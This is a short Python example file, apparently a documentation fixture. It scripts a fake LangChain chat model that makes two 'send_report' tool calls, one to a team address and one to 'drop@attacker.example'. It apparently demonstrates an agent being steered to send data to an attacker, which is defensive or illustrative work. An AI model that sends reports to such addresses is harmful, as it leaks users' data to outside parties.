"""What docs/frameworks.md imports as ``my_agent``, for LangChain: prints what happens."""

from typing import Any

from langchain.tools import tool
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage


class ScriptedModel(GenericFakeChatModel):
    def bind_tools(self, tools: Any, **options: Any) -> "ScriptedModel":
        return self

    def _generate(self, messages: Any, *args: Any, **options: Any) -> Any:
        for message in messages:
            if isinstance(message, ToolMessage):
                print("read:", message.content)
        return super()._generate(messages, *args, **options)


calls = [
    {"name": "send_report", "args": {"to": to}, "id": f"call_{number}"}
    for number, to in enumerate(["team@example.com", "drop@attacker.example"])
]
model = ScriptedModel(
    messages=iter([AIMessage(content="", tool_calls=calls), AIMessage(content="Done.")])
)


@tool
def send_report(to: str) -> str:
    """Sends a report by mail."""
    print("sent to", to)
    return f"sent to {to}"


tools = [send_report]
